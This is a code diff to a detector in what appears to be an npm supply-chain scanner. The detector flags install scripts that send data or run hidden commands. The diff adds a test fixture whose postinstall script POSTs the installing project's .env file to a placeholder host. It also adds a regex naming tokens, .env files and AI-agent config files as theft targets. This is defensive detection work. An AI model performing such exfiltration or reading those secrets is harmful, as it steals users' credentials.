@@ -1,7 +1,8 @@
 import { phaseHere } from "../behaviour/moments.ts";
 import { type Deed, deedsOf } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
-import { sendingDeeds } from "./_near.ts";
+import type { SourceFile } from "../model.ts";
+import { isBundle, sendingDeeds } from "./_near.ts";
 import { scriptsWith } from "./_npm.ts";
 import { sight } from "./_sight.ts";
 
@@ -12,14 +13,15 @@ export const installScriptActs: Detector = {
   title: "A file that an install script runs sends something or hides a command",
   severity: "medium",
   ecosystems: ["npm"],
-  points: 3.8,
+  points: 4.75,
   class: "threat",
   group: "import-acts",
   why: `The file behind a \`preinstall\`, \`install\` or \`postinstall\` script sends a request with a body, asks a name server for a name that it
 puts together, or starts a command that fetches, sends or hides.
 
 Fetching a native program is what honest install scripts do, with a plain request; so is starting a compiler. Both pass. Install
-statistics are a request with a body: this alone does not withhold a release.`,
+statistics are a request with a body: this alone does not withhold a release, unless the file also names tokens, files with settings
+or the project that is being installed into.`,
   literals: WORDS,
   *detect(tree) {
     for (const file of scriptsWith(tree, WORDS)) {
@@ -27,10 +29,14 @@ statistics are a request with a body: this alone does not withhold a release.`,
       const isRun = ({ offset }: Deed) => phaseHere(file, offset) === "install";
       const sends = sendingDeeds(file).find(isRun);
       if (sends !== undefined)
-        yield sight(file, sends.offset, `${sends.what} sends ${sends.text.slice(0, 120)} at install`, { share: 0.9 });
+        yield sight(file, sends.offset, `${sends.what} sends ${sends.text.slice(0, 120)} at install`, {
+          share: takes(file) ? 0.9 : 0.72,
+        });
       const command = deedsOf(file, "start").find((deed) => isOdd(deed) && isRun(deed));
       if (command !== undefined)
-        yield sight(file, command.offset, `${command.what} starts ${command.text.slice(0, 160)} at install`);
+        yield sight(file, command.offset, `${command.what} starts ${command.text.slice(0, 160)} at install`, {
+          share: 0.8,
+        });
     }
   },
   examples: {
@@ -75,6 +81,14 @@ statistics are a request with a body: this alone does not withhold a release.`,
         ecosystem: "npm",
         files: {
           "package.json": `{"scripts":{"postinstall":"node a.js"}}`,
+          "a.js":
+            "const fs = require('fs');\nfetch('https://example.invalid', { method: 'POST', body: fs.readFileSync(process.env.INIT_CWD + '/.env') });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": `{"scripts":{"postinstall":"node a.js"}}`,
           "a.js": "require('child_process').exec('which node >/dev/null && ./lib/run >/dev/null 2>&1');\n",
         },
       },
@@ -92,4 +106,16 @@ statistics are a request with a body: this alone does not withhold a release.`,
 
 function isOdd({ command }: Deed): boolean {
   return command !== undefined && (command.fetches || command.sends || command.hides);
+}
+
+/** Tokens, files that programs and agents keep for their user, and those of the project that installs. */
+const TAKES =
+  /\b(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|AWS_SECRET_ACCESS_KEY|npm_config__auth\w{0,10})\b|INIT_CWD|["'`/]\.env["'`]|\.claude\.json|\.(?:cursor|codex|gemini)\/\w{1,20}\.json|Local Extension Settings/;
+const READS = /\bread(?:File|dir)|createReadStream/;
+
+/** Whether a file that a person wrote for the install also reads what is not the package's. */
+function takes(file: SourceFile): boolean {
+  if (isBundle(file) || file.isFar === true) return false;
+  const match = TAKES.exec(file.text);
+  return match !== null && (/TOKEN|KEY|_auth/.test(match[0]) || READS.test(file.text));
 }
